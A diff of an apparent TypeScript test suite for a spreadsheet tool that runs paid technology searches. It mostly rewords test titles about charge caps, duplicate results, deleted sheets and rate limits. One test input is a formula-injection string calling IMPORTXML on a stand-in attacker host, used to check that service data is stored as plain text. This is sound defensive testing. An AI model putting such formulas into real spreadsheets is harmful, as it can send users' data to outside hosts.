@@ -54,7 +54,7 @@ describe('a technology search', () => {
     },
   );
 
-  it('counts what the service really charges, and stops where that would break the cap', () => {
+  it('counts what the service really charges, and stops if that would break the cap', () => {
     const world = World.connected();
     world.service.fault = ({ url }) => {
       if (!url.includes('/tech/')) return undefined;
@@ -98,7 +98,7 @@ describe('a technology search', () => {
     expect(world.service.techCharged).toBe(600);
   });
 
-  it('adds each company once where the service repeats itself, and asks before it pays for more of the same', () => {
+  it('adds each company once if the service repeats itself, and asks before it pays for more of the same', () => {
     const world = World.connected();
     world.service.techResults = 200;
     world.service.techCompany = (rank) => ({
@@ -183,7 +183,7 @@ describe('a technology search', () => {
     expect(world.service.requests).toEqual([]);
   });
 
-  it('lands whatever a service sends as text', () => {
+  it('writes anything that a service sends as plain text', () => {
     const world = World.connected();
     const hostile = [
       '=IMPORTXML("http://evil.example")',
@@ -228,7 +228,7 @@ describe('a technology search', () => {
 });
 
 describe('a technology search that is disturbed', () => {
-  it('pays nothing more once its sheet is deleted, says so, and goes on when it is back', () => {
+  it('pays nothing more once its sheet is deleted, says so, and continues when it is back', () => {
     const world = withFirstPage();
     const sheet = results(world);
     world.book.remove(sheet);
@@ -293,7 +293,7 @@ describe('a technology search that is disturbed', () => {
     }
   });
 
-  it('waits where the service asks to, and for the person where time does not help', () => {
+  it('waits if the service asks to, and for the person if time does not help', () => {
     const world = World.connected();
     const refuse = (status: number, headers = {}) => {
       world.service.say('/tech/', answer(status, {}, headers));
@@ -347,7 +347,7 @@ describe('a technology search that is disturbed', () => {
       expect([where(), pages.length <= lost]).toEqual([where(), true]);
       expect(world.book.sheets.filter(({ hidden }) => !hidden).length).toBeLessThanOrEqual(1);
     });
-    // Between the note that a page is asked for and its being kept, nobody can know.
+    // If the execution dies between noting a page's request and keeping the page, the outcome is unknown.
     expect(lost).toBeGreaterThan(3);
     expect(lost).toBeLessThan(90);
   });
